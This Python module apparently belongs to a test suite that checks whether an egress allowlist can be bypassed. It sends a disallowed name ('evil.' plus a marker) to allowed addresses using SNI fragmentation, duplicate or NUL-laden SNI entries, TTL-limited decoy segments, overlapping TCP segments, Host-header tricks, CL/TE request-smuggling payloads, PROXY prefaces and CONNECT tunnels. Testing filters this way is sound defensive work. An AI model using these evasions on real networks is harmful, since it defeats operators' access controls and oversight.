"""An allowed address, and a name that is not allowed there."""

import contextlib
import socket
import ssl
import struct

from attempts.catalogue import Surroundings, attempt
from attempts.wire import ACK, FIN, PSH, URG, client_hello, opened, say, tls_client

RETRY_PORT = 9443
"""Where servers want another key share than clients offer first."""


def evil(mark: str) -> str:
    """A name that nobody allowed, with the mark where it ends."""
    return f"evil.{mark}"


def _resolve(s: Surroundings) -> None:
    """As any program does first; then the address may be reached by its name."""
    for family in (socket.AF_INET, socket.AF_INET6):
        socket.getaddrinfo(s.allowed_name, 443, family)


def _each(s: Surroundings, port: int, *parts: bytes) -> None:
    _resolve(s)
    for target in s.allowed_at:
        try:
            say(target, port, *parts)
        except OSError:
            continue


@attempt("names", "another name in TLS, on ports 443, 8443, 853, 9443, 80, 8080")
def _(s: Surroundings, mark: str) -> None:
    for port in (443, 8443, 853, 9443, 80, 8080):
        _each(s, port, client_hello(evil(mark)))


@attempt("names", "no name in TLS")
def _(s: Surroundings, mark: str) -> None:
    hello = client_hello(None, alpn=(mark,))
    for port in (443, 9443):
        _each(s, port, hello)


@attempt("names", "an allowed name at another address")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    for target in s.elsewhere:
        try:
            say(target, 443, client_hello(s.allowed_name, alpn=(mark,)))
        except OSError:
            continue


@attempt("names", "a name split into segments, at each octet near the end")
def _(s: Surroundings, mark: str) -> None:
    hello = client_hello(evil(mark))
    end = hello.index(mark.encode()) + len(mark)
    for at in (1, 5, 9, 43, end - 9, end - 1):
        _each(s, 443, hello[:at], hello[at:])
    _each(s, 443, *(hello[n : n + 40] for n in range(0, len(hello), 40)))


@attempt("names", "a name split over TLS records")
def _(s: Surroundings, mark: str) -> None:
    hello = client_hello(evil(mark))
    body = hello[5:]
    parts = [body[n : n + 50] for n in range(0, len(body), 50)]
    _each(s, 443, b"".join(b"\x16\x03\x01" + struct.pack(">H", len(one)) + one for one in parts))


@attempt("names", "two names in one hello, a NUL in a name")
def _(s: Surroundings, mark: str) -> None:
    hello = client_hello(s.allowed_name)
    good = s.allowed_name.encode()
    at = hello.index(good) - 5  # list length, kind, name length
    for name in (good + b"\0." + evil(mark).encode(), good + b"." + evil(mark).encode()):
        entry = b"\0" + struct.pack(">H", len(name)) + name
        _each(s, 443, _with_names(hello, at, len(good), entry))
    both = b"".join(
        b"\0" + struct.pack(">H", len(one)) + one for one in (good, evil(mark).encode())
    )
    _each(s, 443, _with_names(hello, at, len(good), both))


def _with_names(hello: bytes, at: int, old: int, entries: bytes) -> bytes:
    """Put other entries into the list of names; all lengths around it are put right."""
    made = hello[: at - 2] + struct.pack(">HH", len(entries) + 2, len(entries)) + entries
    made += hello[at + 5 + old :]
    grown = len(made) - len(hello)
    record = struct.unpack_from(">H", hello, 3)[0] + grown
    handshake = int.from_bytes(hello[6:9], "big") + grown
    made = (
        made[:3] + struct.pack(">H", record) + made[5:6] + handshake.to_bytes(3, "big") + made[9:]
    )
    extensions_at = _extensions_at(hello)
    (size,) = struct.unpack_from(">H", hello, extensions_at)
    return made[:extensions_at] + struct.pack(">H", size + grown) + made[extensions_at + 2 :]


def _extensions_at(hello: bytes) -> int:
    at = 5 + 4 + 2 + 32
    at += 1 + hello[at]
    at += 2 + int.from_bytes(hello[at : at + 2], "big")
    return at + 1 + hello[at]


@attempt("names", "first an allowed name in a segment that dies on the way, then another")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    good, bad = client_hello(s.allowed_name), client_hello(evil(mark))
    for target in s.allowed_at:
        for trick in ({"ttl": 1}, {"spoil": True}, {"is_old": True}, {"ack": 1}):
            try:
                made = opened(target, 443)
            except OSError:
                continue
            made.segment(good, **trick)
            if not made.is_answered():  # else the server has it, and all that follows may pass
                made.segment(bad)
            made.answers()
            made.close()


@attempt("names", "another name in the ClientHello that a server asks for a second time")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    wrong = f"ev.{mark}".encode()
    good = s.allowed_name.encode()
    assert len(wrong) == len(good), "the names must be of one length"
    for target in s.allowed_at:
        try:
            with socket.create_connection((target, RETRY_PORT), timeout=1) as made:
                client, coming, going = tls_client(s.allowed_name)
                for _ in range(2):
                    with contextlib.suppress(ssl.SSLWantReadError):
                        client.do_handshake()
                    made.sendall(going.read().replace(good, wrong) if _ else going.read())
                    coming.write(made.recv(65536))
        except (OSError, ssl.SSLError):
            continue


@attempt("names", "overlapping segments that say different things")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    good, bad = client_hello(s.allowed_name), client_hello(evil(mark))
    for target in s.allowed_at:
        try:
            made = opened(target, 443)
        except OSError:
            continue
        made.segment(bad[100:], at=100)  # after a gap: kept by the server for later
        made.segment(good[:150])
        made.segment(bad[:100])
        made.segment(good)
        made.segment(bad)
        made.answers()
        made.close()


@attempt("names", "segments out of order, and repeated otherwise")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    bad = client_hello(evil(mark))
    half = len(bad) // 2
    for target in s.allowed_at:
        try:
            made = opened(target, 443)
        except OSError:
            continue
        made.segment(bad[half:], at=half)
        made.segment(bad[:half])
        made.answers()
        made.segment(bad)
        made.answers()
        made.close()


@attempt("names", "urgent data, and an octet out of the stream")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    bad = client_hello(evil(mark))
    for target in s.allowed_at:
        try:
            made = opened(target, 443)
        except OSError:
            continue
        made.segment(bad, flags=PSH | ACK | URG, urgent=3)
        made.segment(bad, flags=FIN | ACK)
        made.answers()
        made.close()


@attempt("names", "another name, after the connection was closed and its ports used again")
def _(s: Surroundings, mark: str) -> None:
    _resolve(s)
    for target in s.allowed_at:
        family = socket.AF_INET6 if ":" in target else socket.AF_INET
        for hello in (client_hello(s.allowed_name), client_hello(evil(mark))):
            with socket.socket(family, socket.SOCK_STREAM) as made:
                made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                made.settimeout(1)
                try:
                    made.bind(("", 23456))
                    made.connect((target, 443))
                    made.sendall(hello)
                    made.recv(100)
                except OSError:
                    continue


def _http(host: str, path: str = "/", more: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


@attempt("names", "another Host on ports 80 and 8080")
def _(s: Surroundings, mark: str) -> None:
    for port in (80, 8080):
        _each(s, port, _http(evil(mark)))
        _each(s, port, b"\r\n\r\n" + _http(evil(mark)))
        _each(s, port, _http(s.allowed_name, f"http://{evil(mark)}/"))
        _each(s, port, _http(evil(mark), f"http://{s.allowed_name}/"))


@attempt("names", "another Host in the second request of a connection")
def _(s: Surroundings, mark: str) -> None:
    _each(s, 80, _http(s.allowed_name), _http(evil(mark)))
    _each(s, 80, _http(s.allowed_name) + _http(evil(mark)))


@attempt("names", "a request hidden in another")
def _(s: Surroundings, mark: str) -> None:
    hidden = _http(evil(mark)).decode()
    for more in (
        f"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        f"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}",
        f"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{hidden}",
        f"Content-Length: 0\r\nContent-Length: 5\r\n\r\n{hidden}",
        f"Host: {evil(mark)}\r\n",
        f" {evil(mark)}\r\n",
    ):
        _each(s, 80, _http(s.allowed_name, more=more))


@attempt("names", "clear HTTP on ports that are not for it")
def _(s: Surroundings, mark: str) -> None:
    for port in (443, 8081, 9443, 8443):
        _each(s, port, _http(evil(mark)))
        _each(s, port, b"\r\n" + _http(evil(mark)))


@attempt("names", "HTTP/2 in clear, PROXY prefaces, a tunnel")
def _(s: Surroundings, mark: str) -> None:
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    proxy = b"PROXY TCP4 1.1.1.1 2.2.2.2 1 443\r\n"
    second = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes(12)
    for port in (80, 8081, 443):
        _each(s, port, preface + mark.encode())
        _each(s, port, proxy + client_hello(evil(mark)))
        _each(s, port, second + client_hello(evil(mark)))
        _each(
            s, port, f"CONNECT {evil(mark)}:443 HTTP/1.1\r\nHost: {s.allowed_name}\r\n\r\n".encode()
        )
        _each(s, port, _http(s.allowed_name, more=f"Upgrade: h2c\r\nX-Mark: {mark}\r\n"))


@attempt("names", "bytes that are no protocol, on the web's ports")
def _(s: Surroundings, mark: str) -> None:
    for port in (80, 443, 8080, 8443):
        _each(s, port, b"\x00\x01" + mark.encode())
        _each(s, port, b"SSH-2.0-" + mark.encode() + b"\r\n")


@attempt("names", "after STARTTLS and after PostgreSQL's request for TLS")
def _(s: Surroundings, mark: str) -> None:
    hello = client_hello(evil(mark))
    _each(s, 5432, struct.pack(">II", 8, 80877103), hello)
    for port, lines in (
        (25, b"EHLO x\r\nSTARTTLS\r\n"),
        (143, b"a STARTTLS\r\n"),
        (110, b"STLS\r\n"),
    ):
        _each(s, port, lines, hello)
